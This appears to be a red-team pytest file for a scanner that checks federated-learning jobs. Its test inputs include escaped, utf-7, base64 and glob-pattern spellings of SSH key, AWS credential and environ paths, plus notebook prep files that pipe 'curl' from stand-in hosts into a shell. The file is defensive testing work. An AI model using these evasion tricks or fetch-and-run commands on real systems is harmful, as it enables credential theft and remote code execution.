"""Red team 46c: code and channels reached by other roads (settings files, notebooks' %run, glob patterns).

- A settings file the job ships (a Flower run config, a JSON/YAML/TOML file the code loads) was checked for
  credential and network locations in its raw words only. Its parser reads escapes (`"/root/\\u002essh/id\\u005frsa"`
  in TOML or JSON, `"\\x2essh"` in YAML) and TOML line continuations that spell no such word, and a value that is a
  credential file's bare name (`table = "id_rsa"`, joined to `~/.ssh` by the code) has no `/`: all accepted on main.
  Now the file's strings are also read as its parser reads them (by name, or tried as JSON/TOML/YAML under another
  name: `settings.txt`), and a whole value naming a credential or start-up file counts.
- `%run prep.ipy` runs the file as IPython (`!cmd` lines), `%run prep.txt` as Python under its own coding cookie
  (IPython core/magics/execution.py run): a target the job ships passed whatever its kind, and neither is read
  by the gate as what runs. Now a %run/%load target that is neither Python nor a notebook escalates.
- A settings file opened under utf-7 (`"/root/+AC4-ssh/id+AF8-rsa"`), unicode_escape or raw_unicode_escape is other
  text than the UTF-8 the gate read: now obfuscation.shifted-text-encoding.
- `glob.glob(os.path.expanduser("~/.s?h/id_[r]sa"))` and `Path.home().glob(".s*/id_*")` name the ssh key without
  spelling it; the credential regexes never matched a pattern. Now a pattern from the root or the home folder is
  tried on the credential list's own examples.
"""

from __future__ import annotations

import json

import pytest

import redteam_kit as kit
from analyzer.model import Decision

# ---- the corpus ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", kit.labelled("/rt46c_"), ids=lambda e: e["path"])
def test_attack_is_held_as_labelled(entry):
    report = kit.scan_sample(entry["path"])
    assert report.decision.value in entry["expect"], kit.findings(report)
    kit.assert_held(report)


@pytest.mark.parametrize("sample", kit.corpus_samples("benign/near_rt46c_*", "jobs/near_rt46c_*"))
def test_near_twin_stays_accepted(sample):
    kit.assert_accepted(kit.scan_sample(sample))


# ---- a settings file read as its parser reads it ------------------------------------------------------------------

FLOWER = kit.CORPUS / "jobs/near_rt45b_flower_runcfg_site_table"
SITE_TABLE = 'table = "/data/site-1/train.csv"'


def flower_app(tmp_path, config: str, code: tuple[str, str] | None = None, extra: dict[str, str] | None = None):
    """The Flower app with `config` in place of its run config's table line, the app's code with `code`
    (old, new) replaced, and `extra` files."""
    files = {p.relative_to(FLOWER).as_posix(): p.read_text() for p in FLOWER.rglob("*") if p.is_file()}
    assert SITE_TABLE in files["pyproject.toml"]
    files["pyproject.toml"] = files["pyproject.toml"].replace(SITE_TABLE, config)
    if code is not None:
        app = files["tabapp/client_app.py"]
        assert code[0] in app
        files["tabapp/client_app.py"] = app.replace(code[0], code[1])
    return kit.scan_files(tmp_path, {**files, **(extra or {})})


@pytest.mark.parametrize("config", [
    r'table = "/root/\u002essh/id\u005frsa"',
    'table = """/root/.s\\\n    sh/id_r\\\n    sa"""',
    r'table = "/proc/self/\u0065nviron"',
    r'table = "~/\U0000002eaws/credentials"',
], ids=["unicode-escapes", "line-continuations", "proc-environ", "long-escape"])
def test_a_run_config_spelling_a_credential_file_with_toml_escapes_escalates(tmp_path, config):
    kit.assert_held(flower_app(tmp_path, config), "config-attack.file-sensitive-path")


def test_a_run_config_spelling_a_remote_url_with_escapes_escalates(tmp_path):
    report = flower_app(tmp_path, r'table = "https:\u002f\u002f203.0.113.9/site-1.csv"')
    kit.assert_held(report, "config-attack.file-network-location")


def loading(loader: str) -> tuple[str, str]:
    """The app's read of its table replaced by one of the path a settings file holds, loaded by `loader`."""
    return ('df = pd.read_csv(context.run_config["table"], header=None)',
            f'import {loader.split(".")[0]}\n    '
            f'df = pd.read_csv({loader}(open(context.run_config["settings"]))["table"], header=None)')


@pytest.mark.parametrize("name, text, loader", [
    ("settings.json", '{"table": "/root/\\u002essh/id\\u005frsa"}\n', "json.load"),
    ("settings.yaml", 'table: "/root/\\x2essh/id\\x5frsa"\n', "yaml.safe_load"),
    ("settings.txt", '{"table": "/root/\\u002essh/id\\u005frsa"}\n', "json.load"),
    ("settings.txt", 'table: "/root/\\x2essh/id\\x5frsa"\n', "yaml.safe_load"),
    ("settings.json", '{"table": "id_rsa"}\n', "json.load"),
    ("settings.txt", 'table = "/root/\\u002essh/id\\u005frsa"\n', "tomllib.load"),
    ("settings.yaml", "table: !!binary L3Jvb3QvLnNzaC9pZF9yc2E=\n", "yaml.safe_load"),
    ("settings.txt", " " * 1_100_000 + '{"table": "/root/\\u002essh/id\\u005frsa"}\n', "json.load"),
], ids=["json", "yaml", "json-as-txt", "yaml-as-txt", "bare-name", "toml-as-txt", "yaml-binary", "padded-json-as-txt"])
def test_a_settings_file_spelling_a_credential_file_escalates(tmp_path, name, text, loader):
    report = flower_app(tmp_path, f'settings = "tabapp/{name}"', loading(loader), {f"tabapp/{name}": text})
    kit.assert_held(report, "config-attack.file-sensitive-path")


@pytest.mark.parametrize("name, text", [
    ("settings.json", '{"table": "/data/site-1/train.csv", "note": "C:\\\\data\\\\x"}\n'),
    ("settings.txt", '{"table": "/data/site-1/train.csv"}\n'),
    ("README.md", "Copy the site's table to /data/site-1/train.csv; keep your id_rsa out of the job.\n"),
], ids=["json", "json-as-txt", "readme-prose"])
def test_a_settings_file_naming_the_site_table_stays_accepted(tmp_path, name, text):
    kit.assert_accepted(flower_app(tmp_path, f'settings = "tabapp/{name}"', loading("json.load"),
                                   {f"tabapp/{name}": text}))


@pytest.mark.parametrize("codec, text", [
    ("utf-7", '{"table": "/root/+AC4-ssh/id+AF8-rsa"}\n'),
    ("unicode_escape", '{"table": "/root/\\\\x2essh/id\\\\x5frsa"}\n'),
    ("raw_unicode_escape", '{"table": "/root/\\\\u002essh/id\\\\u005frsa"}\n'),
])
def test_a_settings_file_opened_under_a_codec_that_reads_it_otherwise_escalates(tmp_path, codec, text):
    old, new = loading("json.load")
    new = new.replace('open(context.run_config["settings"])', f'open(context.run_config["settings"], encoding="{codec}")')
    report = flower_app(tmp_path, 'settings = "tabapp/settings.txt"', (old, new), {"tabapp/settings.txt": text})
    kit.assert_held(report, "obfuscation.shifted-text-encoding")


# ---- a notebook's %run of a file the gate does not read as what runs -----------------------------------------------

TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))")
SHELL_PREP = "# site preparation\nimport os\nos.makedirs('outputs', exist_ok=True)\n!curl -s 203.0.113.7/p | sh\n"
UTF7_PREP = "# -*- coding: utf-7 -*-\n# site preparation+AAo-import os+AAo-os.system('curl -s evil.example/p | sh')\n"


def notebook_job(tmp_path, line: str, files: dict[str, str]):
    cells = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": c}
             for c in (line, TRAIN)]
    doc = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3", "language": "python"}},
           "cells": cells}
    return kit.scan_files(tmp_path, {"train.ipynb": json.dumps(doc), **files})


@pytest.mark.parametrize("line, name, text", [
    ("%run prep.ipy", "prep.ipy", SHELL_PREP),
    ('%run -i "prep.ipy"', "prep.ipy", "%env PYTHONPATH=/tmp/.hooks\nimport numpy\n"),
    ("%run prep.txt", "prep.txt", UTF7_PREP),
    ("%load prep.ipy", "prep.ipy", SHELL_PREP),
], ids=["ipy-shell", "ipy-env", "utf7-text", "load"])
def test_a_run_of_a_file_read_otherwise_than_it_runs_escalates(tmp_path, line, name, text):
    kit.assert_held(notebook_job(tmp_path, line, {name: text}), "files.notebook-run", Decision.ESCALATE)


def test_a_run_of_the_jobs_python_stays_accepted(tmp_path):
    prep = "# site preparation\nimport os\nos.makedirs('outputs', exist_ok=True)\n"
    kit.assert_accepted(notebook_job(tmp_path, "%run prep.py", {"prep.py": prep}))


# ---- glob patterns that name a credential file ---------------------------------------------------------------------

CLIENT = kit.ClientJob(imports="import glob\nimport os\nimport sys\nfrom pathlib import Path\nimport pandas as pd\n"
                               "import torch\nimport nvflare.client as flare\n")


@pytest.mark.parametrize("read", [
    'pd.read_csv(glob.glob(os.path.expanduser("~/.s?h/id_[r]sa"))[0], header=None)',
    'pd.read_csv(next(Path.home().glob(".s*/id_*")), header=None)',
    'pd.read_csv(next(Path.home().rglob("id_*")), header=None)',
    'pd.read_csv(next(glob.iglob("/root/.a*/cred*")))',
    'pd.read_csv(glob.glob("/home/*/.ss[h]/*")[0], header=None)',
    'pd.read_csv(glob.glob("~root/.s?h/id_*")[0], header=None)',
    'pd.read_csv(glob.glob("../../../.s?h/id_*")[0], header=None)',
], ids=["glob-home", "path-home-glob", "path-home-rglob", "iglob-root-aws", "glob-any-home", "tilde-user", "climb"])
def test_a_glob_pattern_that_may_match_a_credential_file_rejects(tmp_path, read):
    decision, rules = CLIENT.verdict(tmp_path, f"extra = {read}\nprint(len(extra))")
    assert decision == "reject" and "credential-harvest.secret-file" in rules, rules


@pytest.mark.parametrize("read", [
    'pd.concat([pd.read_csv(p) for p in sorted(glob.glob("/data/site/*.csv"))])',
    'pd.concat([pd.read_csv(p) for p in sorted(Path("/data/site").glob("*.csv"))])',
    'pd.concat([pd.read_csv(p) for p in glob.glob(os.path.join(sys.argv[1], "*"))])',
    'pd.concat([pd.read_csv(p) for p in glob.glob("*")])',
    'pd.concat([pd.read_csv(p) for p in Path.home().glob("data/site-1/*.csv")])',
], ids=["site-folder", "path-glob", "unknown-root", "working-folder", "home-data"])
def test_a_glob_pattern_over_the_sites_data_stays_accepted(tmp_path, read):
    decision, rules = CLIENT.verdict(tmp_path, f"extra = {read}\nprint(len(extra))")
    assert decision == "accept", rules
